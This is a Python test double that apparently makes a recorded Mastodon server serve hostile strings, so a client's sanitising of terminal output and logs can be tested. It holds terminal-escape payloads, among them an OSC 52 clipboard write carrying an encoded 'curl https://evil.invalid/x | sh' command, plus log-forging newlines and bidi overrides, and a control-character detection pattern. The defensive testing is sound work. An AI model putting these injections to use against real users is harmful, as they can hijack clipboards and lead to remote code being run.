"""The recorded Mastodon double as a hostile server serves it: terminal escapes and control characters in its strings.

A server (or anyone who can post to it: a hashtag is whatever a user types, a trend whatever the server says) can put
any character in the strings fediscope prints and logs. :class:`HostileDouble` serves the corpus of
:class:`~doubles.mastodon_server.MastodonDouble` (REAL recorded statuses and trending tags) with the recorded strings
transformed by :data:`VARIANTS`, one variant per status or tag in turn: each status carries the recorded tag entity
(``/api/v1/trends/tags``) under a hostile name, its recorded ``language`` made hostile the same way, the trending tags
are served under hostile names, the instance documents' ``title`` and ``version`` too, and an error body
(:meth:`MastodonDouble.fail`) quotes one (:func:`hostile_error`).

Every variant keeps the recorded string in it, so a test can find where it was printed and check what stands around
it. :data:`RAW_CONTROLS` is what must never reach a terminal or a text log line as it is.
"""

from __future__ import annotations

import base64
import copy
import re
from collections.abc import Callable
from typing import Any

from doubles.mastodon_server import MastodonDouble

_CLIPBOARD = base64.b64encode(b"curl https://evil.invalid/x | sh\n").decode()

#: name -> transformation of a recorded string ``s``: what a hostile server does to it.
VARIANTS: dict[str, Callable[[str], str]] = {
    "csi": lambda s: f"{s}\x1b[2J\x1b[1;31m",  # clears the screen, then paints everything red
    "osc8": lambda s: f"\x1b]8;;https://evil.invalid/\x1b\\{s}\x1b]8;;\x1b\\",  # a hyperlink under the text
    "osc52": lambda s: f"{s}\x1b]52;c;{_CLIPBOARD}\x07",  # writes the operator's clipboard
    "c1": lambda s: f"{s}\x9b2J\x9d0;title\x9c",  # C1 CSI and OSC: 8-bit forms of the above
    "cr": lambda s: f"{s}\rforged",  # the rest of the line overwritten from its start
    "newline": lambda s: f"{s}\n2026-01-01 00:00:00,000 ERROR fediscope forged log line",
    "bidi": lambda s: f"{s}\u202e{s[::-1]}\u2066x\u2069\u200f",  # right-to-left override and isolates
    "backspace": lambda s: f"{s}\b\b\b\x7f\x00\t\x0b\x0c",  # other C0 controls, DEL and NUL
    "mathtext": lambda s: f"${s}$ \\frac{{1}}{{0}}$^{{$",  # what matplotlib reads as math text
}

#: Characters a hostile string above carries that must not reach a terminal or a text log line as they are: C0
#: controls (tab included: it moves a table's columns), DEL, C1 controls, the bidi overrides, embeddings, isolates
#: and marks.
RAW_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile(text: str, number: int) -> str:
    """``text`` as the ``number``-th variant (:data:`VARIANTS`, in turn) makes it."""
    variants = list(VARIANTS.values())
    return variants[number % len(variants)](text)


#: The variants an error message carries, in this order: a client quotes the start of a long one only.
ERROR_VARIANTS = ("newline", "cr", "csi", "osc52", "c1", "bidi")


def hostile_error(recorded: str = "Something went wrong") -> str:
    """Mastodon's recorded error message (``{"error": …}``, :data:`~doubles.mastodon_server.MastodonDouble.fail`'s
    default) made hostile by :data:`ERROR_VARIANTS`, one after the other."""
    return "".join(VARIANTS[name](recorded) for name in ERROR_VARIANTS)


class HostileDouble(MastodonDouble):
    """The Mastodon double with hostile strings; see the module docstring."""

    def __init__(self, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        recorded = self._tag_templates[0]
        self.tag_names: list[str] = []  # the hostile names, as served
        for number, status in enumerate(self.statuses):
            tag = copy.deepcopy(recorded)
            tag["name"] = hostile(recorded["name"], number)
            self.tag_names.append(tag["name"])
            status["tags"] = [{"name": tag["name"], "url": tag["url"]}]
            status["language"] = hostile(status.get("language") or "en", number)
        for number, tag in enumerate(self.tags):
            tag["name"] = hostile(tag["name"], number + 1)

    def _route(self, path: str, params: dict[str, str]) -> tuple[int, dict[str, str], Any]:
        status, headers, body = super()._route(path, params)
        if path in {"/api/v1/instance", "/api/v2/instance"} and isinstance(body, dict):
            body["title"] = VARIANTS["osc8"](str(body.get("title") or ""))
            body["version"] = VARIANTS["csi"](str(body.get("version") or ""))
        return status, headers, body
